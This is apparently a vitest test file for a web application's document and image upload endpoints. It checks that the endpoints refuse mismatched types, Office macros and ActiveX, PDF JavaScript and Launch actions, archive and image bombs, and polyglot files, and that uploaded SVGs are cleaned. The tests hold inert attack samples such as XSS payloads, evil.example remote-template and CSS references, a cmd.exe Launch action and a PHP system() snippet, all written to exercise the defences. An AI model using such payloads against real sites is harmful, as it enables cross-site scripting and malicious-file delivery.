import { readdir } from 'node:fs/promises'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { type TestApp, testApp } from '../../../../../test/app.ts'
import { clientWith, type TestClient } from '../../../../../test/client.ts'
import { archive, compoundFile, officeFile } from '../../../../../test/office-files.ts'
import { animation, drawing, photo, pngPicture } from '../../../../../test/pictures.ts'
import { documentRule, imageRule } from '../../limits.ts'

const page = { url: '/help' }
const pdf = '%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'
const text = (words: string) => Buffer.from(words)

async function uploader() {
  const it = await testApp({ template: 'empty', environment: { FEATURES: '' } })
  const client = await clientWith(it, 'Editor')
  return { it, client }
}

const sendDocument = (client: TestClient, name: string, bytes: Buffer) =>
  client.upload(
    '/api/editable/document/file',
    { pageJson: page, documentJson: { editableId: 'webui.help.doc' } },
    { name, bytes },
  )

const sendImage = (client: TestClient, name: string, bytes: Buffer) =>
  client.upload(
    '/api/editable/image/file',
    { pageJson: page, imageJson: { editableId: 'webui.help.fig' } },
    { name, bytes },
  )

/** Nothing of a refused file is left: no bytes, no row, no version. */
async function mustHaveLeftNothing({ database, files }: TestApp) {
  expect(await readdir(files.arriving).catch(() => [])).toEqual([])
  expect((await database.pool.query('select * from uploads')).rowCount).toBe(0)
  expect((await database.pool.query('select * from media_contents')).rowCount).toBe(0)
}

const macroRecord = Buffer.from('1f00ff0314000000020000040c000000000000000100000002000000', 'hex')
const noMacroRecord = Buffer.from('1f00ff0314000000020000040c000000000000000000000002000000', 'hex')
const boundSheet = (kind: number) => Buffer.from([0x85, 0, 8, 0, 0, 0, 0, 0, 0, kind, 1, 0])
const bookStart = Buffer.from([0x09, 0x08, 4, 0, 0, 6, 5, 0])

const goodDocuments: [string, Buffer][] = [
  ['a.csv', text('id;Hb\n1;9,5\n')],
  ['latin.CSV', Buffer.from('Größe;ja\n', 'latin1')],
  ['a.pdf', text(pdf)],
  ['a.docx', officeFile('docx')],
  ['a.xlsx', officeFile('xlsx')],
  ['a.pptx', officeFile('pptx')],
  ['a.POTX', officeFile('potx')],
  ['a.doc', compoundFile({ WordDocument: Buffer.alloc(5000), '1Table': Buffer.alloc(10) })],
  ['a.xls', compoundFile({ Workbook: Buffer.concat([bookStart, boundSheet(0)]) })],
  ['a.ppt', compoundFile({ 'PowerPoint Document': noMacroRecord, 'Current User': Buffer.alloc(10) })],
  ['a.pot', compoundFile({ 'PowerPoint Document': Buffer.alloc(10) })],
]

test.each(goodDocuments)('5.5 the document %s is taken', async (name, bytes) => {
  const { client } = await uploader()
  const answer = await sendDocument(client, name, bytes)
  expect(answer.statusCode, answer.body).toBe(200)
  const download = await client.get(`/api/document/file?id=${answer.json().documentId}`)
  expect(download.rawPayload.equals(bytes)).toBe(true)
})

const wrongDocuments: [string, string, Buffer][] = [
  ['a program', 'a.csv', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
  ['a program by its name', 'a.exe', text(pdf)],
  ['no ending', 'pdf', text(pdf)],
  ['two endings', 'a.pdf.exe', text(pdf)],
  ['a page as a table', 'a.csv', text('<!doctype html><script>1</script>')],
  ['a page as a PDF', 'a.pdf', text('<html><body>%PDF-1.7</body></html>')],
  ['a PDF as Word', 'a.docx', text(pdf)],
  ['Word as a PDF', 'a.pdf', officeFile('docx')],
  ['Excel as Word', 'a.docx', officeFile('xlsx')],
  ['an archive as Word', 'a.docx', archive([{ name: 'a.txt', bytes: 'hi' }])],
  ['a Java program as Word', 'a.docx', archive([{ name: 'META-INF/MANIFEST.MF', bytes: 'x' }])],
  ['an installer as old Word', 'a.doc', compoundFile({ '\u0005SummaryInformation': Buffer.alloc(10) })],
  ['old Excel as old Word', 'a.doc', compoundFile({ Workbook: bookStart })],
  ['an image', 'a.png', Buffer.alloc(20)],
  ['bytes as a table', 'a.csv', Buffer.from([1, 2, 3, 0, 5])],
]

test.each(wrongDocuments)('8 %s is not supported, in the words of the specification', async (_, name, bytes) => {
  const { it, client } = await uploader()
  const answer = await sendDocument(client, name, bytes)
  expect(answer.statusCode, answer.body).toBe(415)
  expect([answer.json().Message, answer.json().Info]).toEqual(documentRule.unsupported)
  await mustHaveLeftNothing(it)
})

const remote =
  '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const xlmSheet = compoundFile({ Workbook: Buffer.concat([bookStart, boundSheet(1)]) })
const lockedWord = compoundFile({
  WordDocument: Buffer.concat([Buffer.alloc(10), Buffer.from([0, 1]), Buffer.alloc(5000)]),
})
const lockedBook = compoundFile({ Workbook: Buffer.concat([bookStart, Buffer.from([0x2f, 0, 2, 0, 0, 0])]) })
const pdfWith = (words: string) => text(pdf.replace('<<>>endobj', `<<${words}>>endobj`))

const badDocuments: [string, string, () => Buffer, string][] = [
  ['macros', 'a.docx', () => officeFile('docx', [{ name: 'word/vbaProject.bin', bytes: 'x' }]), 'macros'],
  ['a macro document by another name', 'a.docx', () => officeFile('docm'), 'macros'],
  ['a macro workbook by another name', 'a.xlsx', () => officeFile('xlsm'), 'macros'],
  ['macros of old', 'a.xlsx', () => officeFile('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', bytes: 'x' }]), 'macros'],
  ['ActiveX', 'a.docx', () => officeFile('docx', [{ name: 'word/activeX/activeX1.bin', bytes: 'x' }]), 'macros'],
  [
    'an embedded object',
    'a.docx',
    () => officeFile('docx', [{ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }]),
    'macros',
  ],
  [
    'a template from elsewhere',
    'a.docx',
    () => officeFile('docx', [{ name: 'word/_rels/settings.xml.rels', bytes: remote }]),
    'macros',
  ],
  [
    'macros in old Word',
    'a.doc',
    () => compoundFile({ WordDocument: Buffer.alloc(9), Macros: Buffer.alloc(9) }),
    'macros',
  ],
  [
    'macros in old Excel',
    'a.xls',
    () => compoundFile({ Workbook: bookStart, _VBA_PROJECT_CUR: Buffer.alloc(9) }),
    'macros',
  ],
  ['macro sheets in old Excel', 'a.xls', () => xlmSheet, 'macros'],
  ['macros in old PowerPoint', 'a.ppt', () => compoundFile({ 'PowerPoint Document': macroRecord }), 'macros'],
  ['a script in a PDF', 'a.pdf', () => pdfWith('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'), 'macros'],
  ['a script in a PDF that hides its name', 'a.pdf', () => pdfWith('/OpenAction<</S/J#61vaScr#69pt/JS(x)>>'), 'macros'],
  ['a program started by a PDF', 'a.pdf', () => pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'macros'],
  ['encryption of Word', 'a.docx', () => compoundFile({ EncryptedPackage: Buffer.alloc(9) }), 'encrypted'],
  ['encryption of old Word', 'a.doc', () => lockedWord, 'encrypted'],
  ['encryption of old Excel', 'a.xls', () => lockedBook, 'encrypted'],
  ['encryption of old PowerPoint', 'a.ppt', () => compoundFile({ EncryptedSummary: Buffer.alloc(9) }), 'encrypted'],
  ['encryption of a PDF', 'a.pdf', () => text(pdf.replace('trailer<<>>', 'trailer<</Encrypt 5 0 R>>')), 'encrypted'],
  [
    'encryption of a part',
    'a.docx',
    () => officeFile('docx', [{ name: 'word/a.xml', bytes: 'x', flags: 1 }]),
    'encrypted',
  ],
  ['a bomb', 'a.xlsx', () => officeFile('xlsx', [{ name: 'xl/a.xml', bytes: Buffer.alloc(60_000_000) }]), 'too large'],
  [
    'a bomb that hides its size',
    'a.xlsx',
    () => officeFile('xlsx', [{ name: 'xl/a.xml', bytes: Buffer.alloc(9_000_000), claims: { size: 9 } }]),
    'damaged',
  ],
  [
    'a bomb of shared bytes',
    'a.xlsx',
    () => officeFile('xlsx', [{ name: 'xl/a.xml', bytes: 'a', claims: { packed: 900_000 } }]),
    'too large',
  ],
  [
    'too many parts',
    'a.docx',
    () =>
      officeFile(
        'docx',
        Array.from({ length: 5001 }, (_, at) => ({ name: `word/${at}`, bytes: '' })),
      ),
    'too large',
  ],
  ['a cut archive', 'a.docx', () => officeFile('docx').subarray(0, -40), 'damaged'],
  ['a cut PDF', 'a.pdf', () => text(pdf.slice(0, 30)), 'damaged'],
  ['a cut compound file', 'a.doc', () => compoundFile({ WordDocument: Buffer.alloc(9) }).subarray(0, 520), 'damaged'],
  ['a compound file in a circle', 'a.doc', circle, 'damaged'],
  [
    'an archive behind a PDF',
    'a.pdf',
    () => Buffer.concat([text(pdf), archive([{ name: 'a.class', bytes: 'x' }])]),
    'second one',
  ],
  ['nothing', 'a.csv', () => Buffer.alloc(0), 'empty'],
]

/** The directory follows itself. */
function circle() {
  const bytes = compoundFile({ WordDocument: Buffer.alloc(9) })
  const fat = (bytes.readUInt32LE(76) + 1) * 512
  bytes.writeUInt32LE(0, fat)
  return bytes
}

test.each(badDocuments)('D-105 a document with %s is refused', async (_, name, make, reason) => {
  const { it, client } = await uploader()
  const answer = await sendDocument(client, name, make())
  expect([answer.statusCode, answer.json().Message], answer.body).toEqual([422, expect.stringContaining(reason)])
  await mustHaveLeftNothing(it)
})

const goodImages: [string, () => Promise<Buffer>][] = [
  ['a.jpg', () => photo()],
  ['a.JPEG', () => photo()],
  ['a.png', () => pngPicture()],
  ['a.gif', () => animation()],
  ['a.svg', async () => text(drawing)],
  ['declared.svg', async () => text(`<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn -->\n${drawing}`)],
  ['really-a.jpg', () => pngPicture()],
]

test.each(goodImages)('5.5 the image %s is taken', async (name, make) => {
  const { client } = await uploader()
  const answer = await sendImage(client, name, await make())
  expect(answer.statusCode, answer.body).toBe(200)
  if (name === 'really-a.jpg') expect(answer.json().item.imageFileName).toBe('really-a.png')
})

const webp = () =>
  sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
    .webp()
    .toBuffer()
const tiff = () =>
  sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
    .tiff()
    .toBuffer()

const wrongImages: [string, string, () => Promise<Buffer>][] = [
  ['WebP', 'a.webp', webp],
  ['WebP by another name', 'a.jpg', webp],
  ['TIFF by another name', 'a.png', tiff],
  ['a page', 'a.png', async () => text('<html><script>alert(1)</script></html>')],
  ['a program', 'a.gif', async () => Buffer.concat([text('MZ'), Buffer.alloc(99)])],
  ['a PDF', 'a.jpg', async () => text(pdf)],
  ['SVG as PNG', 'a.png', async () => text(drawing)],
  ['PNG as SVG', 'a.svg', () => pngPicture()],
  ['no ending', 'photo', () => photo()],
]

test.each(wrongImages)('8 %s is not supported, in the words of the specification', async (_, name, make) => {
  const { it, client } = await uploader()
  const answer = await sendImage(client, name, await make())
  expect(answer.statusCode, answer.body).toBe(415)
  expect([answer.json().Message, answer.json().Info]).toEqual(imageRule.unsupported)
  await mustHaveLeftNothing(it)
})

/** A PNG whose head says that it is this large, of one colour. */
function hugePng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([text(type), data])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const badImages: [string, string, () => Promise<Buffer>, string][] = [
  ['a bomb', 'a.png', async () => hugePng(20_000, 20_000), 'too large'],
  ['a bomb of frames', 'a.gif', () => animation(1100), 'too large'],
  ['half a photograph', 'a.jpg', async () => (await photo()).subarray(0, 900), 'damaged'],
  ['half a PNG', 'a.png', async () => (await pngPicture()).subarray(0, 200), 'damaged'],
  [
    'an archive behind',
    'a.gif',
    async () => Buffer.concat([await animation(), archive([{ name: 'a', bytes: 'x' }])]),
    'second one',
  ],
  [
    'a page behind',
    'a.jpg',
    async () => Buffer.concat([await photo(), text('<html><script>alert(1)</script>')]),
    'second one',
  ],
  ['PHP in a comment', 'a.gif', async () => Buffer.concat([await animation(), text('<?php system(1);')]), 'second one'],
  [
    'entities',
    'a.svg',
    async () =>
      text(`<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${drawing.replace('/>', '/><text>&b;</text>')}`),
    'damaged',
  ],
  ['an open element', 'a.svg', async () => text(drawing.replace('</svg>', '')), 'damaged'],
  ['no SVG in it', 'a.svg', async () => text('<html xmlns="http://www.w3.org/1999/xhtml"/>'), 'damaged'],
  [
    'depth',
    'a.svg',
    async () => text(drawing.replace('<rect', `${'<g>'.repeat(200)}${'</g>'.repeat(200)}<rect`)),
    'damaged',
  ],
]

test.each(badImages)('D-105 an image with %s is refused', async (_, name, make, reason) => {
  const { it, client } = await uploader()
  const answer = await sendImage(client, name, await make())
  expect([answer.statusCode, answer.json().Message], answer.body).toEqual([422, expect.stringContaining(reason)])
  await mustHaveLeftNothing(it)
})

test('9 an image of exactly 5 MB may come, one byte more may not', async () => {
  const { it, client } = await uploader()
  const most = Buffer.alloc(imageRule.mostBytes + 1, ' ')
  text(drawing).copy(most)
  const tooMuch = await sendImage(client, 'a.svg', most)
  expect([tooMuch.statusCode, tooMuch.json().Message, tooMuch.json().Info]).toEqual([413, ...imageRule.tooLarge])
  await mustHaveLeftNothing(it)
  expect((await sendImage(client, 'a.svg', most.subarray(0, -1))).statusCode).toBe(200)
})

test('9 a document of more than 100 MB may not come', async () => {
  const { it, client } = await uploader()
  const answer = await sendDocument(client, 'a.pdf', Buffer.alloc(documentRule.mostBytes + 1))
  expect([answer.statusCode, answer.json().Message, answer.json().Info]).toEqual([413, ...documentRule.tooLarge])
  await mustHaveLeftNothing(it)
})

const hostile = [
  '<script>alert(1)</script>',
  '<rect onclick="alert(1)" width="1" height="1"/>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  '<a href="javascript:alert(1)"><text>x</text></a>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<image href="https://evil.example/p.gif"/>',
  '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
  '<style>@import url(https://evil.example/a.css); rect{fill:url(https://evil.example/b)}</style>',
  '<style>rect{background:u\\72l(https://evil.example)}</style>',
  '<rect style="fill:url(https://evil.example/c)" width="1" height="1"/>',
  '<rect fill="url( https://evil.example/c )" width="1" height="1"/>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<set attributeName="onmouseover" to="alert(1)"/>',
  '<text><![CDATA[</text></svg><img src=x onerror=alert(1)>]]></text>',
  '<handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">alert(1)</handler>',
  '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
]

test.each(hostile)('an SVG is cleaned of %s', async (evil) => {
  const { client } = await uploader()
  const svg = drawing.replace('</svg>', `${evil}</svg>`).replace('<svg', '<svg onload="alert(1)"')
  const answer = await sendImage(client, 'a.svg', text(svg))
  expect(answer.statusCode, answer.body).toBe(200)
  const { body } = await client.get(`/api/image/file?identifier=${answer.json().imageId}`)
  expect(body).toContain('<rect width="20" height="20" fill="red">')
  // What stands between tags is text, which can do nothing.
  expect(body.replace(/>[^<]*</g, '><')).not.toMatch(
    /evil|javascript:|<script|<img|\son\w+=|<iframe|foreignObject|<animate|<set/,
  )
})

test('an SVG keeps what it is drawn with: gradients, style sheets, marks, and its size', async () => {
  const { client } = await uploader()
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 150" width="10cm"><style>.a{fill:url(#g)} @media (prefers-color-scheme: dark){.a{fill:#fff}}</style><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><marker id="m" orient="auto"><path d="M0 0L5 5"/></marker></defs><title>Iron &amp; blood</title><path class="a" d="M0 0L5 5" fill="url(#g)" marker-end="url(#m)"/></svg>`
  const answer = await sendImage(client, 'a.svg', text(svg))
  expect(answer.json()).toMatchObject({ width: 378, height: 189 })
  const { body } = await client.get(`/api/image/file?identifier=${answer.json().imageId}`)
  for (const kept of [
    '<linearGradient id="g">',
    'fill="url(#g)"',
    'marker-end="url(#m)"',
    '@media',
    'Iron &#38; blood',
  ])
    expect(body).toContain(kept)
})
